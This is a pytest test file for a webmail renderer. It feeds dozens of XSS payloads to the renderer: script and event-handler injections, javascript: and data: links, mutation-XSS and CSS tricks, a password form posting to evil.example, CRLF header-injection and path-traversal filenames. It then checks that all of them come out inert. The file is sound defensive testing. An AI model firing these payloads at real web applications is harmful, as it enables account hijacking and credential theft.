"""XSS corpus: hostile HTML, text, headers and attachment names. Whatever the
message holds, the pages and the message frame contain nothing active: no
script, no event attribute, no javascript:/data: link, no CSS that loads or
executes, no base/meta/form/frame, no remote load before it is allowed."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from academail.webmail.render import ALLOWED_TAGS, content_disposition, safe_filename
from tests.conftest import build_message
from tests.webmail.conftest import deliver, html_message

HOSTILE_HTML = {
    "script": "<script>alert(1)</script><p>x</p>",
    "script_uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "body_onload": '<body onload="alert(1)"><p>x</p></body>',
    "event_on_div": '<div onmouseover="alert(1)" style="color:red">survol</div>',
    "javascript_link": '<a href="javascript:alert(1)">clic</a>',
    "javascript_entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>',
    "javascript_tab": '<a href="jav&#x09;ascript:alert(1)">clic</a>',
    "javascript_spaces": '<a href=" javascript:alert(1)">clic</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">clic</a>',
    "data_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>',
    "data_img_svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg_onload": "<svg onload=alert(1)><circle r=4 /></svg>",
    "svg_animate": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>clic</text></a></svg>',
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "math": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "math_href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "style_tag": "<style>body{background:url(https://pisteur.example/a.png)}</style><p>x</p>",
    "style_expression": '<p style="width: expression(alert(1))">x</p>',
    "style_url": '<p style="background-image: url(https://pisteur.example/a.png); color: red">x</p>',
    "style_escaped_url": '<p style="background:\\75\\72\\6c(https://pisteur.example/a.png)">x</p>',
    "style_import": '<p style="@import \'https://pisteur.example/a.css\'">x</p>',
    "style_moz_binding": '<p style="-moz-binding: url(https://evil.example/x.xml#xss)">x</p>',
    "base": '<base href="https://evil.example/"><a href="page">lien</a>',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object_embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="password"><button>OK</button></form>',
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template_mxss": "<template><img src=x onerror=alert(1)></template>",
    "comment_mxss": "<!--<img src=x onerror=alert(1)>-->",
    "link_stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "remote_image": '<img src="https://pisteur.example/pixel.gif">',
    "protocol_relative_image": '<img src="//pisteur.example/pixel.gif">',
    "background_attr": '<table background="https://pisteur.example/bg.png"><tr><td>x</td></tr></table>',
    "srcset": '<img srcset="https://pisteur.example/a.png 1x" src="cid:none">',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "unclosed_attr": '<img src="x" alt="a"onerror="alert(1)">',
    "tel_javascript": '<a href="tel:x" title="ok">t</a><a href="teljavascript:alert(1)">x</a>',
    "data_img_html": '<img src="data:image/png;base64,AAAA<script>">',
    "data_img_text": '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "nested_quotes": '<a href="https://ok.example/" title=\'" onmouseover="alert(1)\'>ok</a>',
}

SAFE_SCHEMES = ("https:", "http:", "mailto:", "tel:", "#", "data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.raw_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _body(document: str) -> str:
    """The message's markup: inside the frame's <body> and its <main> wrapper."""
    start = document.index("<body")
    start = document.index(">", start) + 1
    body = document[start : document.rindex("</body>")]
    assert body.startswith("<main>") and body.endswith("</main>"), body[:80]
    return body[len("<main>") : -len("</main>")]


def assert_inert(markup: str, *, remote_allowed: bool = False) -> None:
    collector = _Collector()
    collector.feed(markup)
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            value = (value or "").strip().lower()
            assert not name.startswith("on"), (tag, name)
            assert name not in {"srcdoc", "srcset", "formaction", "background", "xlink:href", "action"}, name
            if name in {"href", "src", "cite"}:
                assert value.startswith(SAFE_SCHEMES), (tag, name, value)
                if name == "src" and not remote_allowed:
                    assert value.startswith("data:image/"), value
            if name == "style":
                for bad in ("url(", "expression", "\\", "@import", "binding", "javascript"):
                    assert bad not in value, value
    lowered = markup.lower()
    for marker in ("<script", "<svg", "<math", "<style", "<base", "<meta", "<iframe", "<form", "<object", "<embed", "<link", "<template", "<noscript"):
        assert marker not in lowered, marker


@pytest.mark.parametrize("case", sorted(HOSTILE_HTML))
def test_hostile_html_is_inert(web, person, case):
    message = deliver(person, html_message(HOSTILE_HTML[case], subject=case))
    frame = web.get(reverse("webmail:message_frame", args=[message.mailbox_id, message.uid]))
    assert frame["Content-Security-Policy"].startswith("default-src 'none'")
    body = _body(frame.content.decode())
    assert_inert(body)
    assert "pisteur.example" not in body and "evil.example" not in body
    page = web.get(reverse("webmail:message", args=[message.mailbox_id, message.uid]))
    assert page.status_code == 200
    assert "alert(1)" not in page.content.decode()


def test_remote_allowed_still_inert(web, person):
    markup = "".join(HOSTILE_HTML.values())
    message = deliver(person, html_message(markup))
    frame = web.get(reverse("webmail:message_frame", args=[message.mailbox_id, message.uid]) + "?images=1")
    assert_inert(_body(frame.content.decode()), remote_allowed=True)


HOSTILE_TEXT = (
    "<script>alert(1)</script>\n"
    "javascript:alert(1)\n"
    'https://ok.example/"onmouseover="alert(1)\n'
    "https://ok.example/<img src=x onerror=alert(1)>\n"
    "data:text/html,<script>alert(1)</script>\n"
    "&lt;img src=x&gt; déjà échappé\n"
)


def test_plain_text_escaped_and_only_http_links(web, person):
    message = deliver(person, build_message(body=HOSTILE_TEXT))
    page = web.get(reverse("webmail:message", args=[message.mailbox_id, message.uid])).content.decode()
    text = page[page.index('class="wm-text"') :]
    text = text[: text.index("</div>")]
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;" in text
    assert '<a href="https://ok.example/"' in text
    assert text.count("<a ") == 2
    assert "&amp;lt;img" in text  # shown as written, not decoded
    collector = _Collector()
    collector.feed(text)
    for tag, attrs in collector.tags:
        assert tag == "a"
        assert dict(attrs)["rel"] == "noopener noreferrer nofollow"
        assert dict(attrs)["href"].startswith("https://")
        assert not any(name.startswith("on") for name, _ in attrs)


def test_hostile_headers_escaped(web, person):
    raw = (
        b'From: "<img src=x onerror=alert(1)>" <pirate@exemple.com>\r\n'
        b"To: julie.martin@ac-demo.fr\r\nSubject: <script>alert(1)</script>\r\n"
        b"Date: Thu, 26 Nov 2026 10:00:00 +0100\r\n\r\ncorps\r\n"
    )
    message = deliver(person, raw)
    for url in (
        reverse("webmail:folder", args=[message.mailbox_id]),
        reverse("webmail:message", args=[message.mailbox_id, message.uid]),
        reverse("webmail:search") + "?q=alert",
    ):
        page = web.get(url).content.decode()
        assert "<script>alert" not in page and "<img src=x" not in page, url
        # The search page highlights the match: the escaped subject with <mark> around "alert".
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.replace("<mark>", "").replace("</mark>", ""), url
    assert "&lt;script&gt;<mark>alert</mark>(1)&lt;/script&gt;" in page


HOSTILE_NAMES = [
    '<img src=x onerror=alert(1)>.pdf',
    '"; filename="evil.exe',
    "rapport\r\nContent-Type: text/html\r\n\r\n<script>.pdf",
    "../../../etc/passwd",
    "C:\\Windows\\System32\\evil.exe",
    ".htaccess",
    "",
    "réunion du 3 décembre.pdf",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_safe_filename_and_disposition(name):
    safe = safe_filename(name)
    assert safe and not safe.startswith(".")
    for bad in ("/", "\\", "\r", "\n", '"', "<", ">"):
        assert bad not in safe
    header = content_disposition(name)
    assert header.startswith("attachment; filename=\"")
    assert "\r" not in header and "\n" not in header
    assert header.count('"') == 2


def test_hostile_attachment_names_on_the_page(web, person):
    from email.message import EmailMessage
    from email.policy import SMTP

    message = EmailMessage(policy=SMTP)
    message["From"] = "a@exemple.org"
    message["To"] = person.address
    message["Subject"] = "Pièces"
    message.set_content("Voir les pièces.")
    for name in HOSTILE_NAMES[:5]:
        message.add_attachment(b"x", maintype="text", subtype="html", filename=name.replace("\r\n", " "))
    stored = deliver(person, message.as_bytes())
    page = web.get(reverse("webmail:message", args=[stored.mailbox_id, stored.uid])).content.decode()
    assert "<img src=x" not in page and "<script>" not in page, page[page.find("<img src=x") - 300 :][:600]
    for section in ("2", "3", "4", "5", "6"):
        # POST: the confirmed download (a name ending in .exe first asks for confirmation on GET).
        response = web.post(reverse("webmail:attachment", args=[stored.mailbox_id, stored.uid, section]))
        assert response["Content-Type"] == "application/octet-stream"  # text/html is never served as such
        assert response["X-Content-Type-Options"] == "nosniff"
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert "/" not in disposition.split("filename*=")[0] and "\\" not in disposition
